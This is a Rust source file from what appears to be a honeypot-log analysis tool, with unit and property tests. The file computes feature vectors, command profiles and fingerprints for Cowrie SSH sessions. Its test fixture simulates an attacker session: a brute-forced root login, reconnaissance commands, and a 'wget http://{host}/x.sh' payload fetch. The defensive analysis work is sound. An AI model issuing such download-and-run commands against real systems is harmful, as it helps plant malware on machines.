//! The features of a session that analyses use: a vector of numbers, a profile of the commands, and a
//! fingerprint of the sequence of commands.
//!
//! **Invariant**: a pure function of the session's events, independent of their order. If the meaning of an
//! element changes, [`VERSION`] must be incremented.

mod elements;
mod facts;

use crate::{Record, normal};
pub use elements::{CLIENTS, ELEMENTS, Element, HASSH_BUCKETS, LENGTH, Scaling};
use facts::Facts;

/// Version of the definition below, including [`normal::VERSION`]. Stored in every row.
pub const VERSION: i16 = 1;
/// Features are computed from the first N events of a session.
pub const MOST_EVENTS: usize = 10_000;
/// Number of buckets of the profile.
pub const PROFILE: usize = 64;
/// The profile uses the first N parts of commands.
const MOST_PARTS: usize = 4_000;
/// Limits of the readable sequence that is stored: lines, and bytes.
const KEPT_LINES: usize = 200;
const KEPT_BYTES: usize = 32 << 10;

/// The features of a session.
#[derive(Clone, PartialEq, Debug)]
pub struct Features {
    /// The elements of [`ELEMENTS`], then those of [`CLIENTS`], then [`HASSH_BUCKETS`].
    pub vector: Vec<f32>,
    /// Counts of 1-, 2- and 3-grams over the parts of the normalised commands, hashed into [`PROFILE`] signed
    /// buckets of ln(1 + count), scaled to Euclidean length 1; `None` without commands.
    pub profile: Option<Vec<f32>>,
    /// The commands; `None` when there were none.
    pub sequence: Option<Sequence>,
}

/// A sequence of normalised commands. Sessions with equal sequences did the same.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Sequence {
    /// Fingerprint of all commands, see [`normal::sequence_fingerprint`].
    pub fingerprint: [u8; 16],
    pub length: usize,
    /// The first commands, one per line: at most 200 lines and 32 KiB.
    pub commands: String,
}

/// Computes the features of a session from all of its events.
pub fn features(mut events: Vec<&Record>) -> Features {
    events.sort_by_key(|record| (record.ts.is_none(), record.ts, record.id));
    events.truncate(MOST_EVENTS);
    let typed: Vec<_> =
        events.iter().filter_map(|record| record.command.as_deref()).map(normal::normalise).collect();
    let typed: Vec<&str> = typed.iter().map(AsRef::as_ref).collect();
    let facts = Facts::of(&events, &typed);
    Features { vector: elements::vector(&facts), profile: profile(&typed), sequence: sequence(&typed) }
}

fn sequence(typed: &[&str]) -> Option<Sequence> {
    if typed.is_empty() {
        return None;
    }
    let mut commands = String::new();
    for line in typed.iter().take(KEPT_LINES) {
        if commands.len() + line.len() >= KEPT_BYTES {
            break;
        }
        if !commands.is_empty() {
            commands.push('\n');
        }
        commands.push_str(line);
    }
    Some(Sequence {
        fingerprint: normal::sequence_fingerprint(typed.iter().copied()),
        length: typed.len(),
        commands,
    })
}

/// Feature hashing (Weinberger et al. 2009): the hash of an n-gram determines its bucket and its sign.
fn profile(typed: &[&str]) -> Option<Vec<f32>> {
    let parts: Vec<&str> = typed.iter().flat_map(|line| parts(line)).take(MOST_PARTS).collect();
    let hashes: Vec<[u8; 32]> = parts.iter().map(|part| *blake3::hash(part.as_bytes()).as_bytes()).collect();
    let mut grams: Vec<u8> = Vec::with_capacity(3 * hashes.len());
    let mut counts = std::collections::HashMap::<[u8; 8], u32>::new();
    for n in 1..=3 {
        for gram in hashes.windows(n) {
            grams.clear();
            gram.iter().for_each(|hash| grams.extend(&hash[..16]));
            let hash = blake3::hash(&grams);
            let (name, _) = hash.as_bytes().split_at(8);
            *counts.entry(name.try_into().unwrap_or_default()).or_default() += 1;
        }
    }
    if counts.is_empty() {
        return None;
    }
    let mut sums = vec![0.0_f64; PROFILE];
    // Sorted, because a sum of floats depends on the order.
    let mut counts: Vec<_> = counts.into_iter().collect();
    counts.sort_unstable();
    for (name, count) in counts {
        let sign = if name[1] & 1 == 0 { 1.0 } else { -1.0 };
        sums[usize::from(name[0]) % PROFILE] += sign * f64::from(count).ln_1p();
    }
    let length = sums.iter().map(|sum| sum * sum).sum::<f64>().sqrt();
    let scale = if length > 0.0 { 1.0 / length } else { 0.0 };
    Some(sums.into_iter().map(|sum| (sum * scale) as f32).collect())
}

/// The simple commands of a line: the text between `;`, `|`, `&` and line ends. Quotes are ignored.
fn parts(line: &str) -> impl Iterator<Item = &str> {
    line.split([';', '|', '&', '␤']).map(str::trim).filter(|part| !part.is_empty())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn records(lines: &[(&str, &str)]) -> Vec<Record> {
        let line = |(second, more): &(&str, &str)| {
            format!(r#"{{"timestamp":"2026-01-01T00:00:{second}Z","session":"s",{more}}}"#)
        };
        lines.iter().map(|pair| Record::read(&"x".parse().unwrap(), line(pair).as_bytes()).unwrap()).collect()
    }

    fn attack(host: &str) -> Vec<Record> {
        records(&[
            ("00", r#""eventid":"cowrie.session.connect","protocol":"ssh""#),
            ("00.5", r#""eventid":"cowrie.client.version","version":"SSH-2.0-Go""#),
            ("00.6", r#""eventid":"cowrie.client.kex","hassh":"2ec37a7cc8daf20b10e1ad6221061ca5""#),
            ("01", r#""eventid":"cowrie.login.failed","username":"root","password":"root""#),
            ("03", r#""eventid":"cowrie.login.success","username":"root","password":"123456""#),
            ("05", r#""eventid":"cowrie.command.input","input":"uname -a; nproc""#),
            ("06", &format!(r#""eventid":"cowrie.command.input","input":"wget http://{host}/x.sh""#)),
            ("10", r#""eventid":"cowrie.session.file_download","shasum":"aa""#),
            ("12", r#""eventid":"cowrie.session.closed","duration":12.5"#),
        ])
    }

    fn element(features: &Features, name: &str) -> f32 {
        features.vector[ELEMENTS.iter().position(|element| element.name == name).unwrap()]
    }

    #[test]
    fn elements_say_what_they_say() {
        let records = attack("192.0.2.1");
        let features = features(records.iter().collect());
        let log = |x: f32| x.ln_1p();
        let expected = [
            ("duration", log(12.5)),
            ("events", log(9.0)),
            ("logins_failed", log(1.0)),
            ("logins_succeeded", log(1.0)),
            ("time_to_login", log(3.0)),
            ("usernames", log(1.0)),
            ("passwords", log(2.0)),
            ("login_interval_median", log(2.0)),
            ("login_interval_variation", 0.0),
            // 123456 has log2(6) bits a byte, root has 1.5.
            ("password_entropy", (2.584_962_5 + 1.5) / 2.0 / 8.0),
            ("password_is_username", 0.5),
            ("commands", log(2.0)),
            ("time_to_command", log(2.0)),
            ("command_interval_median", log(1.0)),
            ("downloads", log(1.0)),
            ("files", log(1.0)),
            ("telnet", 0.0),
        ];
        for (name, value) in expected {
            assert!(
                (element(&features, name) - value).abs() < 1e-6,
                "{name}: {} instead of {value}",
                element(&features, name)
            );
        }
        assert_eq!(features.vector.len(), LENGTH);
        let clients = &features.vector[ELEMENTS.len()..][..CLIENTS.len()];
        assert_eq!(clients.iter().position(|&one| one == 1.0).map(|n| CLIENTS[n]), Some("go"));
        assert_eq!(features.vector[LENGTH - HASSH_BUCKETS..].iter().sum::<f32>(), 1.0);
        let profile = features.profile.unwrap();
        assert!((profile.iter().map(|x| x * x).sum::<f32>() - 1.0).abs() < 1e-6);
        assert_eq!(features.sequence.unwrap().commands, "uname -a; nproc\nwget <url>");
    }

    #[test]
    fn the_same_attack_from_another_host_is_the_same_sequence() {
        let [one, other] = ["192.0.2.1", "198.51.100.77"].map(|host| features(attack(host).iter().collect()));
        assert_eq!((one.profile, one.sequence), (other.profile, other.sequence));
    }

    #[test]
    fn a_session_without_anything_has_features() {
        let records = records(&[("00", r#""eventid":"cowrie.session.closed""#)]);
        let one = features(records.iter().collect());
        assert_eq!((one.profile, one.sequence), (None, None));
        assert!(features(Vec::new()).vector.iter().all(|element| element.is_finite()));
    }

    #[test]
    fn a_very_long_session_is_cut() {
        let commands: Vec<String> = (0..MOST_EVENTS + 50)
            .map(|n| format!(r#""eventid":"cowrie.command.input","input":"echo {n} {}""#, "y".repeat(300)))
            .collect();
        let lines: Vec<(&str, &str)> = commands.iter().map(|command| ("01", command.as_str())).collect();
        let records = records(&lines);
        let features = features(records.iter().collect());
        let sequence = features.sequence.unwrap();
        assert_eq!(sequence.length, MOST_EVENTS);
        assert!(sequence.commands.len() < KEPT_BYTES);
    }

    proptest! {
        #[test]
        fn any_events_in_any_order_give_the_same_bounded_features(
            (events, shuffled) in prop::collection::vec((0..9usize, 0..60u32, ".{0,12}"), 0..30)
                .prop_flat_map(|events| (Just(events.clone()), Just(events).prop_shuffle())),
        ) {
            let build = |list: &[(usize, u32, String)]| list.iter().map(|(kind, second, text)| {
                let text = serde_json::to_string(text).unwrap();
                let kind = ["session.connect", "client.version", "client.kex", "login.failed", "login.success", "command.input", "session.file_download", "direct-tcpip.request", "session.closed"][*kind];
                let line = format!(r#"{{"eventid":"cowrie.{kind}","timestamp":"2026-01-01T00:00:{second:02}Z","username":{text},"password":{text},"input":{text},"version":{text},"hassh":{text},"shasum":{text},"dst_ip":{text},"duration":{text}}}"#);
                Record::read(&"x".parse().unwrap(), line.as_bytes()).unwrap()
            }).collect::<Vec<_>>();
            let (records, shuffled) = (build(&events), build(&shuffled));
            let one = features(records.iter().collect());
            prop_assert_eq!(&one, &features(shuffled.iter().collect()));
            prop_assert!(one.vector.iter().chain(one.profile.iter().flatten()).all(|element| element.is_finite() && element.abs() < 50.0));
        }
    }
}
